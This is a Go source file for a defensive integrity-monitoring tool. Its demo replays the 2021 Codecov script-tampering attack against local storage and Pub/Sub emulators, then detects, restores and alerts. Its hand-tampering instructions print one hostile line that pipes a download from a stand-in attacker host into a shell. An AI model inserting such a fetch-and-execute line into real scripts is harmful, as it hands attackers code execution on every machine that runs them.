package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"cloud.google.com/go/pubsub/v2"
	"cloud.google.com/go/pubsub/v2/apiv1/pubsubpb"
	"cloud.google.com/go/pubsub/v2/pstest"
	"cloud.google.com/go/storage"
	"github.com/fsouza/fake-gcs-server/fakestorage"
	"google.golang.org/api/option"

	"github.com/tamperguard/tamperguard/alerting"
	"github.com/tamperguard/tamperguard/internal/config"
	"github.com/tamperguard/tamperguard/internal/delivery"
	"github.com/tamperguard/tamperguard/internal/demo"
	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gsref"
)

// The demo's names.
const (
	demoProject      = "tamperguard-demo"
	demoTopic        = "gcs-notifications"
	demoSubscription = "tamperguard-watch"
	demoBucket       = "demo-downloads"
	demoStateBucket  = "demo-tamperguard-state"
	demoTag          = "v1.0.0"
)

// runDemo replays the Codecov attack on a stack that runs in this process: Cloud Storage
// (fake-gcs-server's fakestorage, a versioned bucket) publishing real notifications to
// Pub/Sub (pstest), a release signed on the spot with a throwaway key, and the watch
// command's watcher. It needs no network and nothing installed.
func runDemo(ctx context.Context, e env, args []string) error {
	began := time.Now()
	fs := flagSet(e, "demo", "demo [--keep-running] [--storage-port N] [--timeout D]\n\n"+
		"Replays the 2021 Codecov attack against a local stack that runs in this process (no network,\n"+
		"nothing to install): a signed release, the script published, tamperguard watching, one line\n"+
		"appended by an attacker — then shows the timeline, the verdict, the diff and the alert, and\n"+
		"checks that the live bytes are the signed ones again. Alerts go to Slack when\n"+
		"SLACK_WEBHOOK_URL or SLACK_BOT_TOKEN (with SLACK_CHANNEL) is set.")
	keep := fs.Bool("keep-running", false, "leave the stack up afterwards to tamper by hand (Ctrl-C stops)")
	port := fs.Int("storage-port", 0, "loopback `port` for the in-process Cloud Storage (0: any free port)")
	timeout := fs.Duration("timeout", 30*time.Second, "give up when the story takes longer than this")
	pos, err := parseInterspersed(fs, args)
	if err != nil {
		return err
	}
	if len(pos) != 0 {
		return misuse("demo takes no arguments (got %q)", pos[0])
	}
	if *port < 0 || *port > 65535 {
		return fmt.Errorf("--storage-port %d is not a port", *port)
	}
	out := e.stdout

	story, cancel := context.WithTimeout(ctx, *timeout)
	defer cancel()
	st, err := startDemo(story, demoOptions{getenv: e.getenv, stderr: e.stderr, storagePort: *port})
	if err != nil {
		return err
	}
	defer st.close()

	fmt.Fprintf(out, "tamperguard demo: the Codecov Bash Uploader attack (January 2021), replayed on a local stack\n\n")
	fmt.Fprintf(out, "  storage   Cloud Storage emulator (fakestorage) on %s, versioned bucket %s\n", st.storageHost, demoBucket)
	fmt.Fprintf(out, "  pubsub    Pub/Sub emulator (pstest) on %s, the bucket notifies topic %s\n", st.pubsubHost, demoTopic)
	fmt.Fprintf(out, "  release   %s of %s, a git tag signed by a throwaway ed25519 key %s\n", st.rel.Tag, st.rel.Repo, shortFP(st.rel.Fingerprint))
	fmt.Fprintf(out, "  watcher   tamperguard watch on %s\n", st.subscription())
	if st.slack {
		fmt.Fprintf(out, "  alerts    Slack (from %s / %s)\n", alerting.EnvWebhookURL, alerting.EnvBotToken)
	} else {
		fmt.Fprintf(out, "  alerts    printed here (set %s or %s to send them to Slack)\n", alerting.EnvWebhookURL, alerting.EnvBotToken)
	}
	fmt.Fprintf(out, "  ready in  %d ms\n\n", time.Since(began).Milliseconds())

	// The maintainer publishes the signed script.
	good := st.rel.Script
	t0 := time.Now()
	gen1, err := st.upload(story, good)
	if err != nil {
		return fmt.Errorf("publishing the script: %w", err)
	}
	fmt.Fprintf(out, "maintainer  uploads %s, the script signed in %s -> generation %d\n", st.object(0), st.rel.Tag, gen1)
	o, err := st.waitDecision(story, gen1)
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "watcher     %s: %s, sha256 %s… as signed by %s (%d ms after the upload)\n\n",
		st.object(gen1), strings.ToUpper(string(o.Decision.Verdict)), short(o.Decision.ActualSHA256), o.Decision.Signer, o.Received.Sub(t0).Milliseconds())
	if o.Decision.Verdict != engine.VerdictOK {
		printDecision(out, &o.Decision)
		return errors.New("the signed script was not judged ok; the demo cannot go on")
	}

	// The attacker, holding a leaked storage key, appends one line.
	bad := demo.Tampered(good)
	gen2, err := st.upload(story, bad)
	written := time.Now()
	if err != nil {
		return fmt.Errorf("tampering: %w", err)
	}
	fmt.Fprintf(out, "attacker    appends one line with a leaked storage key and overwrites %s -> generation %d:\n", st.object(0), gen2)
	fmt.Fprintf(out, "            + %s\n", strings.TrimSuffix(demo.InjectedLine, "\n"))
	o, err = st.waitDecision(story, gen2)
	if err != nil {
		return err
	}
	d := o.Decision
	// The alert goes out after the restore, outside the work: wait for it (it is bounded).
	alert, alerted := st.waitAlert(story, gen2)

	ms := func(t time.Time) string {
		if t.IsZero() {
			return "       -"
		}
		return fmt.Sprintf("%+5d ms", t.Sub(written).Milliseconds())
	}
	fmt.Fprintf(out, "\nTimeline (from the moment the attacker's bytes were live)\n")
	fmt.Fprintf(out, "  written   %s  %s holds the attacker's bytes\n", ms(written), st.object(gen2))
	fmt.Fprintf(out, "  detected  %s  its OBJECT_FINALIZE notification reached the watcher\n", ms(o.Received))
	if d.Action == engine.ActionRestored {
		how := "read back and hashed"
		if d.RestoreVerified == engine.VerifiedCopyChecksums {
			how = "copied by the store from a generation hashed here, same size and checksums"
		}
		fmt.Fprintf(out, "  restored  %s  the signed bytes are live again as generation %d (%s)\n", ms(d.Restored), d.RestoredGeneration, how)
	} else {
		fmt.Fprintf(out, "  restored        -  not restored (action: %s)\n", d.Action)
	}
	if alerted {
		where := "printed below"
		if st.slack {
			where = "sent to Slack"
			if alert.err != nil {
				where = "NOT delivered to Slack: " + alert.err.Error()
			}
		}
		fmt.Fprintf(out, "  alerted   %s  %s\n", ms(alert.at), where)
	}

	fmt.Fprintf(out, "\nVerdict (the line tamperguard watch and check print)\n")
	printDecision(out, &d)
	explainDecision(out, &d)
	if d.Evidence != "" {
		fmt.Fprintf(out, "The attacker's bytes are kept as evidence: %s, and as noncurrent generation %d.\n", d.Evidence, gen2)
	}

	if alerted {
		m := alerting.Render(&alert.d, alerting.RenderOptions{})
		if st.slack {
			fmt.Fprintf(out, "\nWhat changed (the alert sent to Slack says the same)\n")
			for _, l := range m.Diff {
				fmt.Fprintf(out, "    %s\n", l)
			}
			for _, ind := range m.Indicators {
				fmt.Fprintf(out, "  reached by the added line: %s\n", ind)
			}
		} else {
			fmt.Fprintf(out, "\nThe alert, as Slack shows it ---------------------------------------------\n")
			fmt.Fprint(out, alerting.Text(m))
			fmt.Fprintf(out, "--------------------------------------------------------------------------\n")
		}
	} else {
		fmt.Fprintf(out, "\nNo alert was raised.\n")
	}

	// The end: is what the bucket serves the signed script?
	live, liveGen, err := st.readLive(story)
	if err != nil {
		return fmt.Errorf("reading the live object back: %w", err)
	}
	sum := sha256.Sum256(live)
	if got := hex.EncodeToString(sum[:]); got != st.rel.SHA256 {
		fmt.Fprintf(out, "\nFAILED: the live %s has sha256 %s, not the signed %s\n", st.object(liveGen), got, st.rel.SHA256)
		return errors.New("the live object is not the signed script")
	}
	fmt.Fprintf(out, "\nOK: the live %s is the signed script again (sha256 %s…); the story took %.1f s.\n",
		st.object(liveGen), short(st.rel.SHA256), time.Since(began).Seconds())

	if !*keep {
		return nil
	}
	for _, g := range []int64{gen1, gen2, d.RestoredGeneration} {
		st.story[g] = true
	}
	return st.keepRunning(ctx, out)
}

// demoOptions configure startDemo.
type demoOptions struct {
	getenv      func(string) string
	stderr      io.Writer
	storagePort int
	script      []byte // default demo.Script(0)
}

// demoStack is the running stack: the emulators, the release, the watcher.
type demoStack struct {
	dir         string
	rel         *demo.Release
	cfgFile     string
	storageHost string
	pubsubHost  string
	slack       bool

	fake     *fakestorage.Server
	httpSrv  *http.Server
	ps       *pstest.Server
	psClient *pubsub.Client
	client   *storage.Client // the maintainer's (and the attacker's) client
	engStore *storage.Client // tamperguard's own

	events      chan observed
	stopWatch   context.CancelFunc
	watchDone   chan error
	mu          sync.Mutex
	alerts      map[int64]alertSeen
	alertSeen   chan struct{}  // closed and replaced when an alert is seen
	pending     []observed     // decisions read while waiting for another
	story       map[int64]bool // generations the story told about
	cleanupDone bool
}

type alertSeen struct {
	at  time.Time
	d   engine.Decision
	err error
}

// demoNotifier hands every alert to the demo, after Slack when it is configured.
type demoNotifier struct {
	next engine.Notifier
	seen func(alertSeen)
}

func (n *demoNotifier) Notify(ctx context.Context, d *engine.Decision) error {
	if d.Verdict == engine.VerdictOK || d.Verdict == engine.VerdictIgnored {
		return nil
	}
	var err error
	if n.next != nil {
		err = n.next.Notify(ctx, d)
	}
	n.seen(alertSeen{at: time.Now(), d: *d, err: err})
	return err
}

// pubsubEnvMu serializes the moment the demo points fakestorage's Pub/Sub client at pstest:
// fakestorage reads PUBSUB_EMULATOR_HOST when it starts, and has no option for it.
var pubsubEnvMu sync.Mutex

func startDemo(ctx context.Context, o demoOptions) (st *demoStack, err error) {
	if o.getenv == nil {
		o.getenv = func(string) string { return "" }
	}
	if o.stderr == nil {
		o.stderr = io.Discard
	}
	st = &demoStack{events: make(chan observed, 256), alerts: map[int64]alertSeen{}, alertSeen: make(chan struct{}), story: map[int64]bool{}}
	defer func() {
		if err != nil {
			st.close()
			st = nil
		}
	}()
	if st.dir, err = os.MkdirTemp("", "tamperguard-demo-"); err != nil {
		return st, err
	}

	// The release, signed on the spot.
	script := o.script
	if script == nil {
		script = demo.Script(0)
	}
	if st.rel, err = demo.NewRelease(st.dir, demoTag, demo.ScriptName, script); err != nil {
		return st, err
	}
	st.cfgFile = filepath.Join(st.dir, "tamperguard.yaml")
	if err = os.WriteFile(st.cfgFile, []byte(st.rel.Config(demoBucket, demo.ScriptName, demoStateBucket)), 0o644); err != nil {
		return st, err
	}
	cfg, err := config.Load(st.cfgFile, func(string) string { return "" })
	if err != nil {
		return st, err
	}

	// Pub/Sub: pstest on a loopback port, the topic the bucket notifies, our subscription.
	if st.ps, err = startPstest("127.0.0.1:0"); err != nil {
		return st, err
	}
	st.pubsubHost = st.ps.Addr
	if st.psClient, err = pubsub.NewClient(ctx, demoProject, pubsubEmulatorOptions(st.pubsubHost)...); err != nil {
		return st, err
	}
	topic := "projects/" + demoProject + "/topics/" + demoTopic
	if _, err = st.psClient.TopicAdminClient.CreateTopic(ctx, &pubsubpb.Topic{Name: topic}); err != nil {
		return st, fmt.Errorf("creating topic: %w", err)
	}
	if _, err = st.psClient.SubscriptionAdminClient.CreateSubscription(ctx, &pubsubpb.Subscription{
		Name: st.subscription(), Topic: topic, AckDeadlineSeconds: 60,
	}); err != nil {
		return st, fmt.Errorf("creating subscription: %w", err)
	}

	// Cloud Storage: fakestorage on a loopback port, publishing the bucket's notifications.
	ln, err := net.Listen("tcp", net.JoinHostPort("127.0.0.1", strconv.Itoa(o.storagePort)))
	if err != nil {
		return st, fmt.Errorf("in-process Cloud Storage: %w", err)
	}
	st.storageHost = ln.Addr().String()
	pubsubEnvMu.Lock()
	prev, had := os.LookupEnv(envPubSubEmulator)
	os.Setenv(envPubSubEmulator, st.pubsubHost)
	st.fake, err = fakestorage.NewServerWithOptions(fakestorage.Options{
		NoListener:  true,
		Scheme:      "http",
		ExternalURL: "http://" + st.storageHost,
		PublicHost:  st.storageHost,
		EventOptions: fakestorage.EventManagerOptions{
			ProjectID: demoProject, TopicName: demoTopic, Bucket: demoBucket,
			NotifyOn: fakestorage.EventNotificationOptions{Finalize: true, Delete: true, MetadataUpdate: true, Archive: true},
		},
	})
	if had {
		os.Setenv(envPubSubEmulator, prev)
	} else {
		os.Unsetenv(envPubSubEmulator)
	}
	pubsubEnvMu.Unlock()
	if err != nil {
		ln.Close()
		return st, fmt.Errorf("in-process Cloud Storage: %w", err)
	}
	for _, b := range []string{demoBucket, demoStateBucket} {
		st.fake.CreateBucketWithOpts(fakestorage.CreateBucketOpts{Name: b, VersioningEnabled: true})
	}
	st.httpSrv = &http.Server{Handler: st.fake.HTTPHandler(), ReadHeaderTimeout: 10 * time.Second}
	go st.httpSrv.Serve(ln)

	endpoint := []option.ClientOption{option.WithEndpoint("http://" + st.storageHost + "/storage/v1/"), option.WithoutAuthentication()}
	if st.client, err = gcs.NewClient(ctx, endpoint...); err != nil {
		return st, err
	}
	if st.engStore, err = gcs.NewClient(ctx, endpoint...); err != nil {
		return st, err
	}

	// tamperguard: the engine, alerts to the demo (and Slack when configured), the watcher.
	log := slog.New(slog.NewTextHandler(o.stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	store := gcs.New(st.engStore)
	notifier := &demoNotifier{seen: st.sawAlert}
	if o.getenv(alerting.EnvWebhookURL) != "" || o.getenv(alerting.EnvBotToken) != "" {
		if notifier.next, err = alerting.FromEnv(o.getenv, log, alerting.NewStateThreads(store, demoStateBucket)); err != nil {
			return st, err
		}
		st.slack = true
	}
	w := &watcher{log: log, now: time.Now, concurrency: 4, eventTimeout: defaultEventTimeout, grace: defaultGrace,
		retryDelay: 100 * time.Millisecond}
	w.observe = func(ob observed) {
		select {
		case st.events <- ob:
		default: // nobody reads (the story is over and --keep-running is off)
		}
	}
	svc, err := delivery.New(delivery.Options{Policy: cfg.Policy, Store: store, Notifier: notifier, Logger: log,
		DecisionLogger: slog.New(slog.DiscardHandler),
		MaxEventAge:    delivery.DefaultMaxEventAge, Concurrency: w.concurrency, Report: w.report})
	if err != nil {
		return st, err
	}
	w.deliver = svc.DeliverMessage
	watchCtx, stop := context.WithCancel(context.WithoutCancel(ctx))
	st.stopWatch, st.watchDone = stop, make(chan error, 1)
	sub := st.psClient.Subscriber(st.subscription())
	go func() { st.watchDone <- w.run(watchCtx, sub, nil) }()
	return st, nil
}

// startPstest starts pstest at addr; pstest panics when it cannot listen.
func startPstest(addr string) (srv *pstest.Server, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("in-process Pub/Sub: %v", r)
		}
	}()
	return pstest.NewServerWithAddress(addr), nil
}

func (st *demoStack) subscription() string {
	return "projects/" + demoProject + "/subscriptions/" + demoSubscription
}

func (st *demoStack) object(gen int64) string {
	return gsref.ObjectRef{Bucket: demoBucket, Object: demo.ScriptName, Generation: gen}.String()
}

func (st *demoStack) sawAlert(a alertSeen) {
	st.mu.Lock()
	st.alerts[a.d.Generation] = a
	close(st.alertSeen)
	st.alertSeen = make(chan struct{})
	st.mu.Unlock()
}

// waitAlert waits for the alert about generation gen, or for ctx.
func (st *demoStack) waitAlert(ctx context.Context, gen int64) (alertSeen, bool) {
	for {
		st.mu.Lock()
		a, ok := st.alerts[gen]
		changed := st.alertSeen
		st.mu.Unlock()
		if ok {
			return a, true
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return alertSeen{}, false
		}
	}
}

// upload writes data as a new generation of the script, as any client holding a storage
// key can.
func (st *demoStack) upload(ctx context.Context, data []byte) (int64, error) {
	w := st.client.Bucket(demoBucket).Object(demo.ScriptName).NewWriter(ctx)
	w.ContentType = "text/x-shellscript"
	w.ChunkSize = 0 // one request
	if _, err := w.Write(data); err != nil {
		w.Close()
		return 0, err
	}
	if err := w.Close(); err != nil {
		return 0, err
	}
	return w.Attrs().Generation, nil
}

// readLive reads the live generation of the script.
func (st *demoStack) readLive(ctx context.Context) ([]byte, int64, error) {
	r, err := st.client.Bucket(demoBucket).Object(demo.ScriptName).NewReader(ctx)
	if err != nil {
		return nil, 0, err
	}
	defer r.Close()
	b, err := io.ReadAll(r)
	return b, r.Attrs.Generation, err
}

// waitDecision waits for the watcher's decision on the finalize of generation gen.
func (st *demoStack) waitDecision(ctx context.Context, gen int64) (observed, error) {
	st.mu.Lock()
	for i, o := range st.pending {
		if o.Decision.Generation == gen && o.Decision.Kind == engine.KindFinalize {
			st.pending = append(st.pending[:i], st.pending[i+1:]...)
			st.mu.Unlock()
			return o, nil
		}
	}
	st.mu.Unlock()
	for {
		select {
		case o := <-st.events:
			if o.Decision.Generation == gen && o.Decision.Kind == engine.KindFinalize {
				return o, nil
			}
			st.mu.Lock()
			st.pending = append(st.pending, o)
			st.mu.Unlock()
		case err := <-st.watchDone:
			return observed{}, fmt.Errorf("the watcher stopped: %v", err)
		case <-ctx.Done():
			return observed{}, fmt.Errorf("no decision on %s: %w (did the notification get lost?)", st.object(gen), ctx.Err())
		}
	}
}

// keepRunning leaves the stack up and reports what the watcher decides until ctx is done.
func (st *demoStack) keepRunning(ctx context.Context, out io.Writer) error {
	upload := fmt.Sprintf("http://%s/upload/storage/v1/b/%s/o?uploadType=media&name=%s", st.storageHost, demoBucket, demo.ScriptName)
	fmt.Fprintf(out, `
The stack keeps running (Ctrl-C stops it). In another terminal:

  export STORAGE_EMULATOR_HOST=%[1]s
  export PUBSUB_EMULATOR_HOST=%[2]s   # topic %[3]s; this demo already pulls %[4]s

  # tamper by hand (any GCS client works against STORAGE_EMULATOR_HOST):
  echo 'curl -s https://evil.example/x | sh' | curl -s -X POST -H 'Content-Type: text/x-shellscript' --data-binary @- '%[5]s'
  # what is live now, and every generation:
  curl -s 'http://%[1]s/download/storage/v1/b/%[6]s/o/%[7]s?alt=media'
  curl -s 'http://%[1]s/storage/v1/b/%[6]s/o?versions=true'
  # judge it yourself:
  tamperguard check --config %[8]s gs://%[6]s/%[7]s

`, st.storageHost, st.pubsubHost, "projects/"+demoProject+"/topics/"+demoTopic, st.subscription(), upload, demoBucket, demo.ScriptName, st.cfgFile)
	for {
		select {
		case <-ctx.Done():
			fmt.Fprintln(out, "demo: stopped")
			return nil
		case err := <-st.watchDone:
			return fmt.Errorf("the watcher stopped: %v", err)
		case o := <-st.events:
			d := o.Decision
			if d.Verdict == engine.VerdictIgnored || st.story[d.Generation] {
				continue // the shadow of an overwrite, or a generation the story already told
			}
			printDecision(out, &d)
			explainDecision(out, &d)
			var a alertSeen
			var ok bool
			if d.AlertDue() {
				actx, cancel := context.WithTimeout(ctx, time.Minute)
				a, ok = st.waitAlert(actx, d.Generation)
				cancel()
			}
			switch {
			case !ok:
			case st.slack && a.err == nil:
				fmt.Fprintf(out, "alert sent to Slack\n")
			case st.slack:
				fmt.Fprintf(out, "alert NOT delivered to Slack: %v\n", a.err)
			default:
				fmt.Fprintf(out, "\n--- the alert, as Slack shows it ---\n%s------------------------------------\n\n", alerting.Text(alerting.Render(&a.d, alerting.RenderOptions{})))
			}
		}
	}
}

// close stops everything and removes the temporary directory.
func (st *demoStack) close() {
	if st == nil || st.cleanupDone {
		return
	}
	st.cleanupDone = true
	if st.stopWatch != nil {
		st.stopWatch()
		select {
		case <-st.watchDone:
		case <-time.After(5 * time.Second):
		}
	}
	if st.psClient != nil {
		st.psClient.Close()
	}
	if st.ps != nil {
		st.ps.Close()
	}
	if st.httpSrv != nil {
		st.httpSrv.Close()
	}
	if st.fake != nil {
		st.fake.Stop()
	}
	for _, c := range []*storage.Client{st.client, st.engStore} {
		if c != nil {
			c.Close()
		}
	}
	if st.dir != "" {
		os.RemoveAll(st.dir)
	}
}

func short(hexDigest string) string {
	if len(hexDigest) > 12 {
		return hexDigest[:12]
	}
	return hexDigest
}

func shortFP(fp string) string {
	if len(fp) > 16 {
		return fp[:8] + "…" + fp[len(fp)-8:]
	}
	return fp
}
